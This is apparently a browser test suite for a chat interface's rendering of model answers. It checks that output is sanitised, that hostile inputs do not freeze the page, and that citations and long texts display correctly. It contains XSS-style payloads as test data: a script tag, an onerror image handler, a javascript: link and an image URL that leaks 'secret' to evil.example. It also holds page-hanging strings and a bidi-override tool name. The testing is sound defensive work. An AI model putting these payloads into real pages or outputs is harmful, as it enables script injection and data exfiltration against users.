import type { Page } from 'playwright-core';
import { expect, test } from 'vitest';
import { withBrowser } from '../support/browser.ts';
import { callRest } from '../support/world.ts';
import { type Chat, hasMessages, isIdle, openChat, screenshot, send } from './support/chat.ts';

const openPage = withBrowser();

/** Lets the model write a text. @returns the element that shows it */
async function show({ page, model }: Chat, text: string) {
  await send(page, 'Write');
  const turn = await model.nextTurn();
  turn.write(text);
  turn.finish();
  await isIdle(page);
  const answer = page.getByRole('article', { name: 'Guide' }).last().locator('.content');
  await answer.waitFor();
  return answer;
}

test('Markdown cannot run code, load anything or leave the page', async () => {
  const chat = await openChat(openPage);
  const answer = await show(
    chat,
    `<script>window.hacked = 1</script>

<img src="https://evil.example/1.png" onerror="window.hacked = 2">

![secret](https://evil.example/?q=secret) [js](javascript:window.hacked=3) [data](data:text/html,x)

[good](https://good.example/a?b=c&d=e) &lt;b&gt; &amp; <b>bold</b>
`,
  );
  await expect.poll(() => answer.innerText()).toContain('<script>window.hacked = 1</script>');
  expect(await answer.locator('script, img, b, iframe').count()).toBe(0);
  expect(await answer.innerText()).toContain('<b> & <b>bold</b>');
  expect(await linksIn(answer.page())).toEqual([
    { text: 'Image: secret', href: 'https://evil.example/?q=secret', rel: REL, target: '_blank' },
    { text: 'good', href: 'https://good.example/a?b=c&d=e', rel: REL, target: '_blank' },
  ]);
  expect(await chat.page.evaluate('window.hacked')).toBeUndefined();
  expect(chat.pageErrors).toEqual([]);
});

const REL = 'noopener noreferrer nofollow';

function linksIn(page: Page): Promise<unknown> {
  return page.evaluate(`[...document.querySelectorAll('.content a')].map((link) => ({
    text: link.textContent, href: link.href, rel: link.rel, target: link.target }))`);
}

test.each([
  ['deep quotes', '> '.repeat(8000)],
  ['deep lists', '- '.repeat(8000)],
  ['steps of lists', Array.from({ length: 300 }, (_, depth) => `${'  '.repeat(depth)}- a`).join('\n')],
  ['underscores', '_a__b'.repeat(4000)],
  ['brackets', '['.repeat(20_000)],
  ['a wide table', `${'|a'.repeat(4000)}|\n${'|-'.repeat(4000)}|\n`],
  ['a text without spaces', 'x'.repeat(90_000)],
  ['combining marks', `Z${'\u0301'.repeat(15_000)}`],
])('a text made to hold up the page does not: %s', async (_, text) => {
  const chat = await openChat(openPage, { viewport: { width: 360, height: 700 } });
  await chat.page.evaluate(`
    window.longest = 0;
    new PerformanceObserver((list) => {
      for (const { duration } of list.getEntries()) window.longest = Math.max(window.longest, duration);
    }).observe({ type: 'longtask' });
  `);
  await show(chat, text);
  expect(await chat.page.evaluate('document.documentElement.scrollWidth - innerWidth')).toBeLessThanOrEqual(
    0,
  );
  // A busy machine takes several times as long as an idle one, and a text that is parsed in full took 10 seconds.
  expect(await chat.page.evaluate('window.longest')).toBeLessThan(1500);
  expect(chat.pageErrors).toEqual([]);
});

test('a text of 200,000 characters is shown in part until all of it is wanted', async () => {
  const chat = await openChat(openPage);
  const answer = await show(chat, `${'word '.repeat(40_000)}end`);
  expect((await answer.innerText()).length).toBeLessThan(101_000);
  await answer.getByRole('button', { name: 'Show all 200,003 characters' }).click();
  expect(await answer.innerText()).toContain('word end');
});

test('characters that reverse text stay within the message, and are visible in names and arguments', async () => {
  const chat = await openChat(openPage);
  const { page, model } = chat;
  const answer = await show(chat, 'abc \u202Edef\u202C and שלום');
  expect(await answer.evaluate((one) => getComputedStyle(one).unicodeBidi)).toBe('isolate');
  await send(page, 'Again');
  (await model.nextTurn()).call('get_\u202Erehtaew');
  await page.getByText('get_\\u{202e}rehtaew').waitFor();
});

test('citations open the passage that they refer to', async () => {
  const chat = await openChat(openPage);
  const { page, graph } = chat;
  const value = 'Rain falls【1†source】 often【2†source】.';
  const annotations = ['It rains on 200 days.', 'Often, that is.'].map((quote, index) => ({
    type: 'file_citation',
    text: `【${index + 1}†source】`,
    start_index: value.indexOf(`【${index + 1}`),
    end_index: value.indexOf(`【${index + 1}`) + 10,
    file_citation: { file_id: `file-${index + 1}`, quote },
  }));
  citeIn(graph, { type: 'text', text: { value, annotations } });
  await show(chat, 'Rain');
  await hasMessages(page, 'You: Write', 'Guide: Rain falls 1 often 2.');
  await page.getByRole('button', { name: 'Citation 2' }).click();
  const citation = page.getByRole('complementary', { name: 'Citation' });
  expect(await citation.innerText()).toMatch(/file-2\s+Often, that is\./);
  await screenshot(page, 'citation');
  await citation.getByRole('button', { name: 'Close' }).click();
  expect(await citation.count()).toBe(0);
});

/** Replaces the content of the assistant's messages in lists. */
function citeIn({ upstream, localUrl }: Chat['graph'], content: object): void {
  upstream.intercept = async ({ operation, path }, response) => {
    if (operation !== 'listMessages') return false;
    const page = await callRest<{ data: { role: string; content: object[] }[] }>(localUrl, path);
    for (const message of page.data) if (message.role === 'assistant') message.content = [content];
    response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(page));
    return true;
  };
}
